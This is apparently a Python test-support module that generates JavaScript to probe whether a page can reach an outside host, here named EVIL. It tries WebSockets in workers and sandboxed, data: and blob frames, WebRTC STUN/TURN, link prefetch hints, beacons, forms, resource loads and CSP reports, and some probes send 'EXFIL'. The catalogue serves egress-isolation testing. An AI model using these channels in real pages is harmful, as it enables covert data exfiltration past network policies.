"""Every way that a page has to another host, as expressions of JavaScript.

`EVIL` is the other host with its port, `rounds` a while; `at_once` goes them.
"""

from collections.abc import Mapping

from support.recording_origin import Page

# In pages and workers: a WebSocket that sends, and says what it heard.
SOCKET = """
const openSocket = address => new Promise(done => {
  const socket = new WebSocket('ws://' + address + '/');
  socket.onopen = () => socket.send('EXFIL');
  socket.onmessage = event => done('heard ' + event.data);
  socket.onerror = () => done('refused'); });
"""
IN_WORKER = (
    SOCKET
    + """
const evil = new URL(self.location).searchParams.get('evil') || self.name;
const post = word => self.postMessage ? self.postMessage(word) : 0;
"""
)
SCRIPTS = {
    "/worker.js": "openSocket(evil).then(post);",
    "/nested.js": "new Worker('/worker.js?evil=' + evil).onmessage = e => post(e.data);",
    "/fetching.js": """fetch('http://' + evil, {mode: 'no-cors'}).catch(() => 0)
        .then(() => post(1));""",
    "/importing.js": "try { importScripts('http://' + evil) } catch {} post(1);",
    "/shared.js": "onconnect = e => openSocket(evil).then(word => e.ports[0].postMessage(word));",
    "/service.js": "oninstall = e => e.waitUntil(openSocket(evil));",
    "/service_fetch.js": """oninstall = e => e.waitUntil(
        fetch('http://' + evil, {mode: 'no-cors'}).catch(() => 0));""",
}


def pages(evil: str) -> dict[str, Page]:
    """Return what our own server has: scripts, and pages whose headers name the other host."""
    report = f"img-src 'none'; report-uri http://{evil}/report"
    return {
        "/": Page("<!doctype html><title>good</title><body>"),
        "/csp": Page("<img src=/x.png>", headers={"content-security-policy": report}),
        **{path: Page(IN_WORKER + code, "text/javascript") for path, code in SCRIPTS.items()},
    }


# For what says nothing of its end: a while, as our own server's answers measure it.
_ROUNDS = """
let passing;
const rounds = () => passing ??= (async () => {
  for (let n = 0; n < 90; n++) await fetch('/round?' + n); })();
"""
_MEANS = """
const ended = (target, ...events) => new Promise(done =>
  events.forEach(name => target.addEventListener(name, () => done(name))));
const put = (name, fields, parent) => {
  const made = Object.assign(document.createElement(name), fields);
  (parent || document.body).append(made); return made; };
const loaded = (name, fields) => { const made = Object.assign(document.createElement(name), fields);
  const end = ended(made, 'load', 'error'); document.body.append(made); return end; };
const worker = script => new Promise(done => {
  const made = new Worker(script.startsWith('/') ? script + '?evil=' + EVIL : script);
  made.onmessage = event => done(event.data); made.onerror = () => done('error'); });
const sharedWorker = script => new Promise(done => {
  const made = new SharedWorker(script + '?evil=' + EVIL);
  made.port.onmessage = event => done(event.data); });
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const install = async script => {
  const made = await navigator.serviceWorker.register(script + '?evil=' + EVIL).catch(() => 0);
  if (!made) return 'refused';
  const one = made.installing || made.waiting || made.active;
  while (one && one.state === 'installing') await ended(one, 'statechange');
  await made.unregister(); return 'installed'; };
const peer = async server => {
  const made = new RTCPeerConnection({iceServers: [server]});
  made.createDataChannel('x'); await made.setLocalDescription(await made.createOffer());
  while (made.iceGatheringState !== 'complete') await ended(made, 'icegatheringstatechange');
  const found = made.localDescription.sdp.match(/a=candidate[^\\r\\n]*/g) || [];
  made.close(); return found.join(' '); };
const frame = fields => loaded('iframe', fields).then(() => rounds());
const hint = fields => (put('link', fields, document.head), rounds());
const newFrame = () => put('iframe', {name: 'x' + Math.random()}).name;
const send = fields => fetch(THERE, {mode: 'no-cors', ...fields}).catch(() => 0);
const THERE = 'http://' + EVIL + '/there';
const LOGIN = {username: 'EXFIL', credential: 'x'};
const IN_PLACE = `(${openSocket})('${EVIL}').then(word => postMessage(word));`;
const PAGE = `<script>(${openSocket})('${EVIL}')</` + 'script>';
"""
# What each way is called, and the expression that goes it.
SOCKETS = {
    "websocket": "openSocket(EVIL)",
    "websocket with a final dot": "openSocket(EVIL.replace('.test', '.test.'))",
    "secure websocket": "ended(new WebSocket('wss://' + EVIL), 'error')",
    "websocket in a worker": "worker('/worker.js')",
    "websocket in a nested worker": "worker('/nested.js')",
    "websocket in a shared worker": "sharedWorker('/shared.js')",
    "websocket in a service worker": "install('/service.js')",
    "websocket in a blob worker": "worker(blobOf(IN_PLACE, 'text/javascript'))",
    "websocket in a data: worker": "worker('data:text/javascript,' + encodeURIComponent(IN_PLACE))",
    "websocket in a data: frame": "frame({src: 'data:text/html,' + encodeURIComponent(PAGE)})",
    "websocket in a srcdoc frame": "frame({srcdoc: PAGE})",
    "websocket in a sandboxed frame": "frame({sandbox: 'allow-scripts', srcdoc: PAGE})",
    "websocket in a blob frame": "frame({src: blobOf(PAGE, 'text/html')})",
}
PEERS_AND_HINTS = {
    "webtransport": "new WebTransport('https://' + EVIL).ready.catch(() => 0)",
    "stun over udp": "peer({urls: 'stun:' + EVIL})",
    "stun over udp to an address": "peer({urls: 'stun:127.0.0.1:' + EVIL.split(':')[1]})",
    "turn over udp": "peer({urls: 'turn:' + EVIL, ...LOGIN})",
    "turn over tcp": "peer({urls: 'turn:' + EVIL + '?transport=tcp', ...LOGIN})",
    "turn over tls": "peer({urls: 'turns:' + EVIL + '?transport=tcp', ...LOGIN})",
    "preconnect": "hint({rel: 'preconnect', href: THERE})",
    "dns-prefetch": "hint({rel: 'dns-prefetch', href: THERE})",
    "prefetch": "hint({rel: 'prefetch', href: THERE})",
    "preload": "hint({rel: 'preload', as: 'image', href: THERE})",
}
REQUESTS = {
    "navigation of a frame": "(put('iframe', {src: '/'}).contentWindow.location = THERE, rounds())",
    "navigation": "(setTimeout(() => location = THERE), rounds())",
    "pop-up": "(made => rounds().then(() => made && made.close()))(window.open(THERE))",
    "form": "(put('form', {action: THERE, method: 'POST', target: newFrame()}).submit(), rounds())",
    "frame": "frame({src: THERE})",
    "fetch": "send()",
    "fetch with keepalive": "send({method: 'POST', body: 'x', keepalive: true})",
    "fetch in a worker": "worker('/fetching.js')",
    "fetch in a service worker": "install('/service_fetch.js')",
    "redirect": "fetch('/redirect/' + EVIL, {mode: 'no-cors'}).catch(() => 0)",
    "importScripts": "worker('/importing.js')",
    "module import": "import(THERE).catch(() => 0)",
    "beacon": "(navigator.sendBeacon(THERE, 'x'), rounds())",
    "EventSource": "ended(new EventSource(THERE), 'error')",
    "image": "loaded('img', {src: THERE})",
    "style sheet": "loaded('link', {rel: 'stylesheet', href: THERE})",
    "font": "new FontFace('x', `url(${THERE})`).load().catch(() => 0)",
    "media": "ended(put('video', {src: THERE}), 'error')",
    "object": "loaded('object', {data: THERE})",
    "csp report": "frame({src: '/csp'})",
}
# It opens no connection by itself, with or without a policy.
SILENT = {"dns-prefetch"}
# The page that goes it is there no longer.
LEAVING = {"navigation"}


def at_once(ways: Mapping[str, str], addresses: Mapping[str, str]) -> str:
    """Return statements that go all of these ways, each to its address, and wait a while.

    The same while for all of them: one after the other, they would spend the most of it waiting.
    """
    going = (
        f"Promise.resolve((EVIL => {{{SOCKET}{_MEANS} return {way}; }})('{addresses[name]}'))"
        ".catch(() => 0);"
        for name, way in ways.items()
    )
    return f"{_ROUNDS}{''.join(going)}await rounds();"
